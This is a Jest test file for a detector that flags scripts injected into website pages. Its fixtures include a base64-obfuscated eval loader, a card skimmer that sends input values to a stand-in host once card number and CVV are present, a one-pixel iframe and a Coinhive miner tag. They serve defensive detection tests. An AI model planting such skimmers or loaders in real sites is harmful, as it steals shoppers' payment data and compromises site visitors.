import { expect, test } from '@jest/globals'
import { walkHtml } from '../judges/html-walk.ts'
import { type PageRunning, RunningCollector } from '../judges/page-running.ts'
import { analyseScripts } from '../judges/script-analysis.ts'
import { at, findingOf, lookContext, page, probes, seen, short, siteContext, watching } from './fixtures.ts'
import { type RunningMemory, rememberRunning } from './running-memory.ts'
import { createRunningSurvey } from './running-survey.ts'
import { scriptInjected } from './script-injected.ts'
import { emptySiteMemory } from './site-memory.ts'

function running(html: string): PageRunning {
  const walk = walkHtml<{ running: PageRunning }>({ running: new RunningCollector() })
  walk.write(`<html><head>${html}</head><body></body></html>`)
  return walk.end().running
}

const known = (over: Partial<RunningMemory> = {}): RunningMemory => ({
  hosts: { 'widget.test': '2026-11-01T00:00:00.000Z' },
  hashes: [],
  pending: {},
  hiddenLinks: [],
  terms: [],
  ...over,
})
const withMemory = (memory: RunningMemory | null) => ({ memory: { ...emptySiteMemory, running: memory } })
const loader = (host: string) =>
  `<script>var s=document.createElement('script');s.src='https://${host}/a.js';document.head.appendChild(s)</script>`
const evil = `<script>eval(atob('${Buffer.from(`document.write('<script src=https://a.test/x.js></script>')`).toString('base64')}'))</script>`
const skimmer = `<script>setInterval(function(){var d={};document.querySelectorAll('input').forEach(function(e){d[e.name]=e.value});if(d.cc_number&&d.cvv)new Image().src='https://g.test/?d='+btoa(JSON.stringify(d))},3e3);addEventListener('x',f)</script>`

const judge = (html: string, over: Parameters<typeof siteContext>[0] = withMemory(known())) =>
  scriptInjected.judge(
    seen({}, [], [page({ running: running(html) }), page({ url: at('/b'), running: running(html) })]),
    siteContext(over),
  )

test.each([
  ['nothing new', '<script>var a=1</script>', []],
  ['a strong signal', evil, ['bad high']],
  ['a host that nobody knew', loader('new.test'), ['bad high']],
  ['a host that the site uses', loader('cdn.widget.test'), []],
  ['a service that everybody uses', loader('www.googletagmanager.com'), []],
  ['one weak signal', '<script>eval(x)</script>', []],
  ['two weak ones', '<script>eval(x);if(navigator.userAgent&&document.cookie)y()</script>', ['bad high']],
  ['where passwords are typed', `${evil}<input type="password">`, ['bad critical']],
  ['a thief of cards', skimmer, ['bad critical']],
  ['a frame of one pixel', '<iframe src="https://new.test/" width="1" height="1"></iframe>', ['bad high']],
  ['a miner', '<script src="https://coinhive.com/lib/coinhive.min.js"></script>', ['bad critical']],
])('%s', (_name, html, expected) => expect(judge(html).map((each) => short(each))).toEqual(expected))

test('on day one only what no honest code does is bad', () => {
  expect(judge(evil, withMemory(null)).map((each) => short(each))).toEqual(['bad high'])
  expect(judge(loader('new.test'), withMemory(null))).toEqual([])
})

test('what is known, or was accepted, is no news; the infected baseline is', () => {
  const survey = createRunningSurvey()
  survey.add(page({ running: running(loader('new.test') + evil) }))
  const context = { now: new Date('2026-11-20T12:00:00Z'), isComplete: true, accepted: new Set<string>() }
  const first = rememberRunning(null, survey.facts(), context)
  expect(judge(loader('new.test'), withMemory(first))).toEqual([])
  expect(judge(evil, withMemory(first)).map((each) => short(each))).toEqual(['bad high'])
  const [verdict] = judge(evil)
  const accepted = new Set([`script.injected ${verdict?.subject ?? ''}`])
  expect(judge(evil, withMemory(rememberRunning(first, survey.facts(), { ...context, accepted })))).toEqual([])
  expect(rememberRunning(null, survey.facts(), { ...context, isComplete: false })).toBeNull()
})

test('who waits hears that it is gone, or that nobody knows', () => {
  const watched = watching('script.injected', 'x')
  const over = { watched, ...withMemory(known()) }
  expect(scriptInjected.judge(seen(), siteContext(over)).map((each) => short(each))).toEqual(['ok'])
  expect(scriptInjected.judge(seen({ complete: false }), siteContext(over)).map((each) => short(each))).toEqual(['unknown'])
})

const noncesApart = (html: string) => html.replace('eval(', 'var n="a1b2c3d4e5f60718";eval(')
test.each<[string, Parameters<typeof page>[0], string]>([
  ['still', { running: running(evil) }, 'bad high'],
  ['still, written differently', { running: running(noncesApart(evil)) }, 'bad high'],
  ['gone', { running: running('') }, 'ok'],
  ['a wall', { fault: 'challenge' }, 'unknown'],
  ['cut off', { running: running(''), truncated: true }, 'unknown'],
])('looking again: %s', async (_name, over, expected) => {
  const finding = findingOf(judge(evil)[0])
  const pages = finding.look.urls.map((url) => page({ ...over, url }))
  const again = await scriptInjected.lookAgain(finding, probes({ pages }), lookContext(withMemory(known())))
  expect(short(again)).toBe(expected)
})

test('the judge and the rule agree on what is new', () => {
  expect(analyseScripts(loader('new.test'), { hosts: [], hashes: [] }).severity).toBe('high')
})
